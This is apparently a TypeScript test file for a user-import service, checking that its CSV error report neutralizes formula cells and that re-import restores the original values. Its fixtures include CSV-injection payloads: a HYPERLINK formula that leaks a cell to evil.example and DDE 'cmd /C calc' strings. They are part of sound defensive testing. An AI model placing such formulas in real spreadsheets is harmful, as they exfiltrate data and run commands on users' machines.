// The error report (SPEC §6) holds the uploader's cells: a cell a spreadsheet would run as a formula
// (`=HYPERLINK(…)`, `@SUM(…)`, `-…`, `+…`) is neutralized with a `'` as the users export does, the
// upload's header cells and the Error text included. Import strips that `'` again, so the report,
// fixed and uploaded again, stores what the first upload would have stored (a cell the admin had
// neutralized already, `'=x`, stays as uploaded and is read as `=x` both times).
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { errorReportCsv } from '../../src/services/imports/import-queries.ts';
import { useTestDatabase } from '../helpers/database.ts';
import { runImportFile } from './import-helpers.ts';
import { createFixtureCustomer, type FixtureCustomer } from './import-setup.ts';

async function readAll(stream: NodeJS.ReadableStream): Promise<string> {
  const parts: Buffer[] = [];
  for await (const part of stream) parts.push(Buffer.from(part));
  return Buffer.concat(parts).toString('utf8');
}

const encode = (text: string) => new TextEncoder().encode(text);
const FORMULA_START = /^[=+\-@]/;

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&C3,"Click to fix")';
const AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const BAD_EMAIL = "=cmd|' /C calc'!A0";

const UPLOAD = stringify([
  [
    'First Name',
    'Last Name',
    'User ID/Email (Required)',
    'Title',
    'Department',
    'Manager',
    'Webex Meetings',
    'Jabber with Webex Teams',
    'Jabber Calling',
    '=Evil Header',
  ],
  [AT_SUM, "'=already quoted", BAD_EMAIL, HYPERLINK, '-5', '+31 boss', 'TRUE', 'FALSE', 'FALSE', '@x'],
]);

describe('error report formula cells', () => {
  const database = useTestDatabase();
  let customer: FixtureCustomer;

  it('sets up the fixture customer', async () => {
    customer = await createFixtureCustomer(database());
  });

  let report = '';

  it('neutralizes every cell that starts with =, +, - or @, header and Error text included', async () => {
    const outcome = await runImportFile(
      database(),
      customer.context,
      customer.customerId,
      encode(UPLOAD),
      'add-only',
      true,
    );
    expect(outcome.view.status).toBe('validated');
    report = (
      await readAll(await errorReportCsv(customer.context, customer.customerId, outcome.view.id))
    ).replace(/^\uFEFF/, '');
    const records = parse(report) as string[][];
    expect(records).toHaveLength(2);
    expect(records.flat().filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    expect(records[0]?.at(-3)).toBe("'=Evil Header");
    expect(records[1]?.slice(0, 6)).toEqual([
      `'${AT_SUM}`,
      "'=already quoted",
      `'${BAD_EMAIL}`,
      `'${HYPERLINK}`,
      "'-5",
      "'+31 boss",
    ]);
    expect(records[1]?.at(-3)).toBe("'@x");
    expect(records[1]?.at(-2)).toContain(BAD_EMAIL);
    expect(records[1]?.at(-1)).toBe('2');
  });

  it('re-imports the fixed report with the values as first uploaded', async () => {
    const records = parse(report) as string[][];
    const emailColumn = records[0]!.indexOf('User ID/Email (Required)');
    records[1]![emailColumn] = 'fixed@devries.example';
    const outcome = await runImportFile(
      database(),
      customer.context,
      customer.customerId,
      encode(stringify(records)),
      'add-only',
    );
    expect(outcome.view.status).toBe('completed');
    expect(outcome.byRow).toEqual({ 2: 'add' });
    const user = await database()
      .db.selectFrom('users')
      .select(['first_name', 'last_name', 'title', 'department', 'manager'])
      .where('email', '=', 'fixed@devries.example')
      .executeTakeFirstOrThrow();
    expect(user).toEqual({
      first_name: AT_SUM,
      last_name: '=already quoted',
      title: HYPERLINK,
      department: '-5',
      manager: '+31 boss',
    });
  });
});
